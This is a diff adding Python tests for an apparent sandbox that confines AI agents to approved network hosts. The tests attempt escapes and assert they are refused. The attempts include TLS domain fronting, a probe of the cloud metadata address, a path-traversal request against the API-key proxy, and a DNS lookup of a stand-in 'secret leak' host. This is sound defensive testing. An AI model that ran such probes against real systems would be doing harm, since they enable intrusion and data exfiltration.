@@ -1,0 +1,247 @@
+"""The network in the cage: one address, hosts by approval, no way around it."""
+
+import json
+import os
+import socket
+import ssl
+import subprocess
+import threading
+from collections.abc import Iterator
+from contextlib import closing, suppress
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from urllib.request import urlopen
+
+import pytest
+
+from tests.features.cage.plain_user import HANDRAIL, UID, PlainUser, plain_user
+from tests.persons import Person
+from tests.waiting import until
+
+KEY = "sk-the-persons-key"
+
+
+@dataclass(slots=True)
+class Servers:
+    """A TLS server and a plain one, both on loopback, and what was sent to them."""
+
+    tls: int
+    plain: int
+    certificate: Path
+    requests: list[tuple[str, str, dict[str, str]]] = field(default_factory=list)
+
+
+@pytest.fixture(scope="module")
+def servers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Servers]:
+    certificate = tmp_path_factory.mktemp("tls") / "both.pem"
+    names = "subjectAltName=DNS:shop.test,DNS:other.test"
+    made = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=shop.test", "-addext", names]
+    subprocess.run([*made, "-keyout", certificate, "-out", certificate.with_name("cert.pem")], check=True, stderr=-3)
+    certificate.write_bytes(certificate.read_bytes() + certificate.with_name("cert.pem").read_bytes())
+    found = Servers(0, 0, certificate)
+
+    class Handler(BaseHTTPRequestHandler):
+        def answer(self) -> None:
+            self.rfile.read(int(self.headers.get("Content-Length") or 0))
+            found.requests.append((self.command, self.path, {k.lower(): v for k, v in self.headers.items()}))
+            self.send_response(200)
+            self.end_headers()
+            self.wfile.write(b"reached")
+
+        do_GET = answer  # noqa: N815 - as the library wants it
+        do_POST = answer  # noqa: N815
+
+        def log_message(self, *args: object) -> None:
+            """Nothing on stderr."""
+
+    plain, tls = (ThreadingHTTPServer(("127.0.0.1", 0), Handler) for _ in range(2))
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    context.load_cert_chain(certificate)
+    tls.socket = context.wrap_socket(tls.socket, server_side=True)
+    found.plain, found.tls = plain.server_port, tls.server_port
+    for server in (plain, tls):
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield found
+    for server in (plain, tls):
+        server.shutdown()
+        server.server_close()
+
+
+def rules(user: PlainUser, *places: str) -> None:
+    lines = ['presence = "never"']
+    for place in places:
+        lines += ["[[rules]]", 'decision = "allow"', 'tool = "net_connect"', f'place = "{place}"']
+    (user.state / "config.toml").write_text("\n".join(lines) + "\n")
+    if os.geteuid() == 0:
+        os.chown(user.state / "config.toml", UID, UID)
+
+
+@pytest.fixture
+def user(servers: Servers) -> Iterator[PlainUser]:
+    with plain_user() as made:
+        made.hosts.write_text("127.0.0.1 localhost shop.test other.test\n169.254.169.254 metadata.test\n")
+        yield made
+
+
+def inside(user: PlainUser, script: str, **environment: str) -> str:
+    done = user.handrail("run", "--", "bash", "-c", script, env=environment)
+    return done.stdout.decode() + done.stderr.decode()
+
+
+def test_a_rule_that_names_the_address_opens_it_and_the_server_name_must_be_the_hosts(
+    user: PlainUser, servers: Servers
+) -> None:
+    rules(user, f"https://shop.test:{servers.tls}", f"https://127.0.0.1:{servers.tls}")
+    tunnel = f"openssl s_client -quiet -proxy 127.0.0.1:6007 -connect shop.test:{servers.tls}"
+    said = inside(
+        user,
+        f"curl -sS -k https://shop.test:{servers.tls}/direct; echo;"
+        f"(printf 'GET /fronted HTTP/1.0\\r\\n\\r\\n'; sleep 1) | {tunnel} -servername other.test 2>&1 | tail -1;"
+        f"(printf 'GET /nameless HTTP/1.0\\r\\n\\r\\n'; sleep 1) | {tunnel} -noservername 2>&1 | tail -1;"
+        f"curl -sS --proxytunnel http://shop.test:{servers.tls}/not-tls 2>&1 | tail -1",
+    )
+    assert said.startswith("reached\n"), said
+    assert [path for _, path, _ in servers.requests] == ["/direct"]
+
+
+def test_a_name_that_leads_to_this_machine_is_refused_even_where_the_name_is_allowed(
+    user: PlainUser, servers: Servers
+) -> None:
+    rules(user, f"https://shop.test:{servers.tls}", f"http://shop.test:{servers.plain}", "http://metadata.test")
+    before = len(servers.requests)
+    said = inside(
+        user,
+        f"curl -sS -k https://shop.test:{servers.tls}/; curl -sS http://shop.test:{servers.plain}/;"
+        f"curl -sS http://metadata.test/; curl -sS -m 3 --noproxy '*' http://127.0.0.1:{servers.plain}/",
+    )
+    assert said.count("leads to 127.0.0.1, which is not on the public internet") == 1  # curl doesn't show a tunnel's
+    assert "leads to 169.254.169.254" in said
+    assert "response 403" in said
+    assert len(servers.requests) == before
+
+
+def test_handrails_own_ports_are_refused_whatever_a_rule_says(user: PlainUser, servers: Servers) -> None:
+    rules(user, f"http://localhost:{servers.plain}", f"http://127.0.0.1:{servers.plain}")
+    owner = UID if os.geteuid() == 0 else os.geteuid()
+    with closing(socket.socket(socket.AF_UNIX)) as mark:
+        mark.bind(f"\0handrail-server-{owner}-{servers.plain}")
+        mark.listen()
+        said = inside(user, f"curl -sS --noproxy '' http://127.0.0.1:{servers.plain}/")
+    assert "may be handrail itself" in said
+    assert "reached" in inside(user, f"curl -sS --noproxy '' http://127.0.0.1:{servers.plain}/")
+
+
+def test_a_person_is_asked_once_for_connections_that_come_together_and_a_no_reaches_all(user: PlainUser) -> None:
+    rules(user)
+    user.hosts.write_text("127.0.0.1 localhost\n93.184.215.14 registry.test\n")
+    script = "for i in 1 2 3; do curl -sS http://registry.test/$i & done; wait"
+    command = [str(HANDRAIL), "run", "--", "bash", "-c", script]
+    with user.start(command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE) as process:
+        asked = Person(user.state).sees()
+        assert "bash in the cage wants to connect to registry.test:80" in json.dumps(asked)
+        assert "93.184.215.14" not in json.dumps(asked)
+        answered = user.handrail("prompts", "answer", asked["requestId"], "--cancel")
+        assert answered.returncode == 0, answered.stderr.decode()
+        said = process.communicate(timeout=60)[0].decode()
+    assert said.count("net_connect was denied") == 3
+    assert Person(user.state).pending() == []
+
+
+def test_a_clients_model_is_reached_without_a_question_only_if_the_client_signs_in_itself(user: PlainUser) -> None:
+    rules(user)
+    user.hosts.write_text("127.0.0.1 localhost api.anthropic.com\n")
+    command = ["run", "--client", "claude", "--", "curl", "-sS", "-m", "20", "https://api.anthropic.com/"]
+    done = user.handrail(*command)
+    assert b"response 403" in done.stderr  # the name leads to this machine here, which is found without a question
+    assert Person(user.state).pending() == []
+    with user.start([str(HANDRAIL), *command], env={"ANTHROPIC_API_KEY": KEY}, stdout=-3, stderr=-3) as process:
+        asked = Person(user.state).sees()
+        process.terminate()
+    assert "Claude Code in the cage wants to connect to api.anthropic.com:443" in json.dumps(asked)
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root can be the name server")
+def test_no_name_is_looked_up_before_a_person_allows_it(user: PlainUser) -> None:
+    """The owner of a domain sees every name in it that is looked up, and so whatever an agent writes into one."""
+    rules(user)
+    asked_for: list[bytes] = []
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
+        server.bind(("127.99.0.1", 53))
+        server.settimeout(60)
+        user.resolver.write_text("nameserver 127.99.0.1\n")
+
+        def listen() -> None:
+            with suppress(OSError):
+                while True:
+                    asked_for.append(server.recv(512))
+
+        threading.Thread(target=listen, daemon=True).start()
+        command = [str(HANDRAIL), "run", "--", "curl", "-sS", "https://the-secret.leak.test/"]
+        with user.start(command, stdin=subprocess.DEVNULL, stdout=-3, stderr=-3) as process:
+            asked = Person(user.state).sees()
+            assert asked_for == []
+            assert user.handrail("prompts", "answer", asked["requestId"], "--cancel").returncode == 0
+            assert process.wait(60) != 0
+    assert asked_for == []
+
+
+def test_the_models_key_stays_outside_and_opens_nothing_but_models(user: PlainUser, servers: Servers) -> None:
+    rules(user)
+    said = inside(
+        user,
+        "env | grep -c the-persons-key; M=http://127.0.0.1:6007/anthropic;"
+        "curl -sS -H 'x-api-key: mine' -H 'authorization: Bearer mine' -d '{}' $M/v1/messages; echo;"
+        "curl -sS $M/v1/files; echo; curl -sS $M/v1/models/..%2ffiles; echo; curl -sS http://127.0.0.1:6007/openai/models",
+        ANTHROPIC_API_KEY=KEY,
+        ANTHROPIC_BASE_URL=f"http://127.0.0.1:{servers.plain}",
+    ).splitlines()
+    assert said[:2] == ["0", "reached"], said
+    assert "key opens only its models" in said[2]
+    assert "nothing here" in said[3] or "only its models" in said[3]
+    assert "nothing here" in said[4]
+    method, path, headers = servers.requests[-1]
+    assert (method, path, headers["x-api-key"]) == ("POST", "/v1/messages", KEY)
+    assert "authorization" not in headers
+
+
+def test_handrails_tools_need_the_cages_token_and_leave_files_to_the_agent(user: PlainUser) -> None:
+    rules(user)
+    about = {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}
+    bodies = [
+        json.dumps({"jsonrpc": "2.0", "id": 1, "method": method, "params": params})
+        for method, params in (("initialize", about), ("tools/list", {}))
+    ]
+    accept = "-H 'content-type: application/json' -H 'accept: application/json, text/event-stream'"
+    post = f"curl -sS {accept} http://127.0.0.1:6007/mcp"
+    token = '-H "authorization: Bearer $HANDRAIL_CAGE_TOKEN"'
+    session = f"$({post} {token} -D - -o /dev/null -d '{bodies[0]}' | grep -i mcp-session-id | tr -d '\\r')"
+    said = inside(user, f"{post} -d '{bodies[1]}'; echo; S={session}; {post} {token} -H \"$S\" -d '{bodies[1]}'")
+    refused, _, listed = said.partition("\n")
+    assert "needs the cage's token" in refused
+    assert "ask_followup_question" in listed, listed
+    assert "write_to_file" not in listed
+    assert "net_connect" not in listed
+
+
+def test_a_published_port_leads_to_the_same_port_inside(user: PlainUser) -> None:
+    rules(user)
+    with closing(socket.create_server(("127.0.0.1", 0))) as free:
+        port = free.getsockname()[1]
+    (user.project / "page.html").write_text("served inside")
+    served = f"/usr/bin/python3 -m http.server {port} --bind 127.0.0.1"
+    command = [str(HANDRAIL), "run", "--publish", str(port), "--", "sh", "-c", served]
+    with user.start(command, stdin=subprocess.DEVNULL, stdout=-3, stderr=-3) as process:
+        try:
+            page = until(lambda: _page(f"http://127.0.0.1:{port}/page.html"), "the published page")
+        finally:
+            process.terminate()
+    assert page == b"served inside"
+
+
+def _page(address: str) -> bytes:
+    try:
+        with urlopen(address, timeout=5) as answer:
+            return bytes(answer.read())
+    except OSError:
+        return b""
